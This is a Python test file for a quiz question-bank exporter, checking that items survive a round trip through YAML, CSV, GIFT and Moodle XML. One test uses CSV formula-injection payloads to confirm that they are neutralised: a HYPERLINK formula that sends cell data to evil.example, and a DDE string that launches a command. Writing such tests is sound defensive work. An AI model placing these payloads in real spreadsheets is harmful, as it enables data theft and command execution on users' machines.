"""What is written in a format is read back the same, as far as the format can hold it."""

from __future__ import annotations

import csv
import re
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, example, given, settings

from bot.questions.build import build_item, raw_item
from bot.questions.exchange import read_any
from bot.questions.exchange.courseware.moodle_out import write_moodle
from bot.questions.exchange.csv_ import read_csv, write_csv
from bot.questions.exchange.gift import read_gift
from bot.questions.exchange.gift_out import write_gift
from bot.questions.exchange.yaml_ import write_yaml
from bot.questions.kinds import DISCUSSION_KINDS
from bot.questions.model import Item, Kind, NumericAnswer, Option, SourcePlace, Status
from bot.questions.yaml_core import parse_yaml
from tests.questions.exchange.making import any_item

CALM = settings(max_examples=60, suppress_health_check=list(HealthCheck))
NO_MOCK = tuple(kind for kind in Kind if kind is not Kind.MOCK)
HERE = SourcePlace("file", 1)
TYPED = Item("optics.q01", "optics", Kind.SHORT, "What is it?", HERE, accepted=("%5%z", "C*", r"\\*", "-"))
NUMBER = replace(TYPED, accepted=("4.0",))


@pytest.mark.slow
@CALM
@given(any_item())
def test_our_yaml_holds_everything_about_an_item(item: Item) -> None:
    document = parse_yaml(write_yaml([item]).content)
    assert isinstance(document.value, list)
    assert build_item(document.value[0], HERE) == item
    assert build_item(raw_item(item), HERE) == item


@pytest.mark.slow
@CALM
@given(any_item(NO_MOCK))
def test_csv_holds_everything_but_excuses(item: Item) -> None:
    exported = write_csv([item])
    found = read_csv(exported.content.decode(), "file")
    assert found.errors == ()
    assert [replace(one, place=HERE) for one in found.items] == [replace(item, lint_ok=())]
    assert bool(exported.losses) == bool(item.lint_ok)


FORMULA = re.compile(r"[=+\-@\t\r＝＋－＠]")


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "＝1+1",
        "'=1",
        "''@x",
        "'quoted'",
        "-",
    ],
)
def test_no_cell_of_a_csv_is_a_formula_and_each_reads_back_as_it_was(words: str) -> None:
    question = Item(
        "optics.q01",
        "optics",
        Kind.SINGLE,
        words,
        HERE,
        options=tuple(Option(f"{words} {n}", n == 1, words) for n in range(3)),
        explanation=words,
        starter=f"\t{words}",
        author=words,
        follow_ups=(words, words),
        tags=(words,),
    )
    number = replace(
        question, id="optics.q02", kind=Kind.NUMERIC, options=(), answer=NumericAnswer(-5, unit=words)
    )
    text = write_csv([question, number]).content.decode()
    cells = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
    assert [cell for cell in cells if FORMULA.match(cell)] == ["-5"]
    found = read_csv(text, "file")
    assert [replace(each, place=HERE) for each in found.items] == [question, number]


@pytest.mark.slow
@CALM
@given(any_item(NO_MOCK))
@example(TYPED)
@example(NUMBER)
def test_gift_holds_the_question_its_answers_and_its_marks(item: Item) -> None:
    exported = write_gift([item])
    found = read_gift(exported.content.decode(), "file")
    assert found.errors == ()
    if not exported.items:
        assert len(exported.losses) == 1
        return
    (back,) = found.items
    answer = item.answer and NumericAnswer(item.answer.value, item.answer.tolerance)
    kept = Item(
        id=item.id,
        topic=item.topic,
        kind=item.kind,
        prompt=item.prompt,
        place=back.place,
        difficulty=item.difficulty,
        phase=item.phase,
        explanation=item.explanation,
        options=tuple(replace(option, misconception=None) for option in item.options),
        statement_is=item.statement_is,
        sequence=item.sequence,
        pairs=item.pairs,
        answer=answer,
        accepted=tuple(dict.fromkeys(item.accepted)),
        status=Status.DRAFT,
    )
    assert back == kept


@pytest.mark.slow
@CALM
@given(any_item(NO_MOCK))
@example(TYPED)
def test_moodle_xml_holds_what_gift_does_and_more(item: Item) -> None:
    exported = write_moodle([item])
    if not exported.items:
        assert len(exported.losses) == 1
        return
    found = read_any(exported.content.decode(), "file.xml")
    assert found.errors == ()
    (back,) = found.items
    kept = replace(
        item,
        place=back.place,
        options=tuple(replace(option, misconception=None) for option in item.options),
        shuffle=item.shuffle or not item.options,
        answer=item.answer and replace(item.answer, text=None),
        variables=(),
        accepted=tuple(dict.fromkeys(item.accepted)),
        starter=item.starter if item.kind is Kind.CODE else None,
        solution=None,
        rubric=(),
        model_answer=item.model_answer if item.kind in DISCUSSION_KINDS else None,
        follow_ups=(),
        rounds=(),
        references=(),
        author="",
        reviewed_by=(),
        reviewed=None,
        review_by=None,
        status=Status.DRAFT,
        lint_ok=(),
    )
    assert back == kept
